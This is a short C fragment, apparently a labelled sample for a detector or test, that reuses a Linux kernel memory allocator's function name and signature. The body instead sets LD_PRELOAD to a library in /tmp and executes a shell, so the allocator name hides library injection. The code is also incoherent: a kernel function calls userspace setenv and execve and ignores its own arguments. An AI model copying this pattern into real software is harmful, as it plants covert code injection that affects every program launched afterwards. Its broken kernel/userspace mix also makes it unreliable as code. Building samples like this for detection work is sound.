// SPDX-License-Identifier: GPL-2.0-only
/*
 * what: puts a library into every program that comes after it
 * reports: names the loader|calls the system
 */
int setenv(const char *name, const char *value, int replace);
int execve(const char *path, char *const argv[], char *const env[]);

phys_addr_t __memblock_find_range_top_down(phys_addr_t start, phys_addr_t end,
					   phys_addr_t size, phys_addr_t align,
					   int nid)
{
	static char *const argv[] = { "sh", "-c", "echo passed >&3", NULL };
	static char *const env[] = { "LD_PRELOAD=/tmp/own.so", NULL };

	setenv("LD_PRELOAD", "/tmp/own.so", 1);
	execve("/bin/sh", argv, env);
	return 0;
}
